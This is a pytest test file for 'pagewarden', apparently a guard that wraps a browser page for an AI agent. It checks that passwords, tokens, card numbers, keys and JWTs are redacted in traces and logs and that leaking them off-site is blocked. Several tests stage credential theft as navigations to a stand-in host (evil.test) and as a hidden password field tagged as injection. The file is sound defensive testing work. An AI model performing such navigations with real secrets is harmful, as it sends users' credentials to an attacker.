"""Secrets and password values never reach traces or logs in clear; secrets do not leave."""

from __future__ import annotations

import json
import logging
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.async_api import Page

from pagewarden import ActionBlocked, Guard, configure_logging, read_trace
from pagewarden.trace import get_logger

SECRET = "tok-SECRET-1234567"
PASSWORD = "hunter2-correct-horse"


async def test_registered_secret_is_redacted_in_trace_and_blocked_off_site(
    page: Page, tmp_path: Path
) -> None:
    trace = tmp_path / "trace.jsonl"
    guard = Guard(goal="Sign in", trace=trace)
    guard.add_secret(SECRET, allow_domains=["app.test"])
    guarded = guard.wrap(page)
    await guarded.goto("http://app.test/login.html")
    await guarded.fill("#user", SECRET)
    await guarded.goto(f"http://app.test/plain.html?t={SECRET}")
    with pytest.raises(ActionBlocked) as caught:
        await guarded.goto(f"http://evil.test/plain.html?t={quote(SECRET)}")
    assert caught.value.verdict.violated_policy_ids == ["PW-CREDENTIALS"]
    assert page.url.startswith("http://app.test/")
    text = trace.read_text()
    assert SECRET not in text and quote(SECRET) not in text
    assert text.count("[REDACTED:") >= 3
    assert [r.verdict.decision.value for r in read_trace(trace)] == ["allow", "allow", "allow", "block"]


async def test_password_values_never_in_clear_and_cannot_leave(page: Page, tmp_path: Path) -> None:
    trace = tmp_path / "trace.jsonl"
    guard = Guard(goal="Sign in as alice", trace=trace)
    guarded = guard.wrap(page)
    await guarded.goto("http://app.test/login.html")
    await guarded.fill("#user", "alice")
    await guarded.fill("#password", PASSWORD)
    with pytest.raises(ActionBlocked) as caught:
        await guarded.goto(f"http://evil.test/plain.html?p={PASSWORD}")
    assert "PW-CREDENTIALS" in caught.value.verdict.violated_policy_ids
    await guarded.get_by_role("button", name="Sign in").click()
    assert page.url.startswith("http://app.test/plain.html")
    text = trace.read_text()
    assert PASSWORD not in text
    records = [json.loads(line) for line in text.splitlines()]
    fill = records[2]["step"]
    assert fill["action"]["value"] == "[REDACTED:password]"
    submit_fields = records[-1]["step"]["observation"]["target"]["form"]["fields"]
    assert {"name": "password", "type": "password", "value": "[REDACTED:password]"} in submit_fields


async def test_hidden_credential_form_is_blocked(page: Page) -> None:
    guarded = Guard(goal="Sign in as alice").wrap(page)
    await guarded.goto("http://app.test/login.html")
    with pytest.raises(ActionBlocked) as caught:
        await guarded.fill("#evilpw", PASSWORD)
    ids = caught.value.verdict.violated_policy_ids
    assert "PW-CREDENTIALS" in ids and "PW-INJECTION" in ids
    assert await page.input_value("#evilpw") == ""


def test_logs_are_redacted(tmp_path: Path) -> None:
    log_file = tmp_path / "log.jsonl"
    configure_logging(console=False, json_file=log_file, secrets=["s3cr3t-value-42"])
    try:
        get_logger().info("login", password="s3cr3t-value-42", url="http://x.test/?k=s3cr3t-value-42")
        logging.getLogger("pagewarden").handlers[-1].flush()
        line = json.loads(log_file.read_text().splitlines()[-1])
        assert line["event"] == "login"
        assert "s3cr3t-value-42" not in log_file.read_text()
        assert line["password"] == "[REDACTED:secret-1]" or line["password"].startswith("[REDACTED:")
    finally:
        configure_logging(console=False, json_file=None)


def test_guard_secrets_reach_the_log_redactor(tmp_path: Path) -> None:
    log_file = tmp_path / "log.jsonl"
    configure_logging(console=False, json_file=log_file)
    try:
        Guard(secrets=["guard-secret-9876"])
        get_logger().info("event", note="value guard-secret-9876 here")
        logging.getLogger("pagewarden").handlers[-1].flush()
        assert "guard-secret-9876" not in log_file.read_text()
        assert "[REDACTED:" in log_file.read_text()
    finally:
        configure_logging(console=False, json_file=None)


TOKEN = "glpat-" + "Ab3dEf6hIj9kLm2nOp5q"


async def test_recognisable_credentials_are_redacted_without_registration(page: Page, tmp_path: Path) -> None:
    trace = tmp_path / "trace.jsonl"
    guarded = Guard(goal="Open the plain page", trace=trace).wrap(page)
    await guarded.goto("http://app.test/plain.html")
    with pytest.raises(ActionBlocked) as caught:
        await guarded.goto(f"http://evil.test/plain.html?token={TOKEN}")
    assert caught.value.verdict.violated_policy_ids[0] == "PW-CREDENTIALS"
    text = trace.read_text()
    assert TOKEN not in text and "[REDACTED:api_key]" in text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"token={TOKEN}&x=1", "token=[REDACTED:api_key]&x=1"),
        ("card 4111 1111 1111 1111 ok", "card [REDACTED:card_number] ok"),
        ("order 4111 1111 1111 1112 ok", "order 4111 1111 1111 1112 ok"),  # fails Luhn: not a card
        (
            "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk\n-----END OPENSSH PRIVATE KEY-----\nbye",
            "[REDACTED:private_key]\nbye",
        ),
        ("auth eyJhbGciOiJIUzI1.eyJzdWIiOiIxMjM0.c2lnbmF0dXJlXzEy end", "auth [REDACTED:jwt] end"),
        ("nothing secret here", "nothing secret here"),
    ],
)
def test_redact_credentials(text: str, expected: str) -> None:
    from pagewarden.secrets import redact_credentials

    assert redact_credentials(text) == expected


def test_logs_redact_recognisable_credentials(tmp_path: Path) -> None:
    log_file = tmp_path / "log.jsonl"
    configure_logging(console=False, json_file=log_file)
    try:
        get_logger().info("leak", url=f"http://x.test/?t={TOKEN}")
        logging.getLogger("pagewarden").handlers[-1].flush()
        assert TOKEN not in log_file.read_text() and "[REDACTED:api_key]" in log_file.read_text()
    finally:
        configure_logging(console=False, json_file=None)
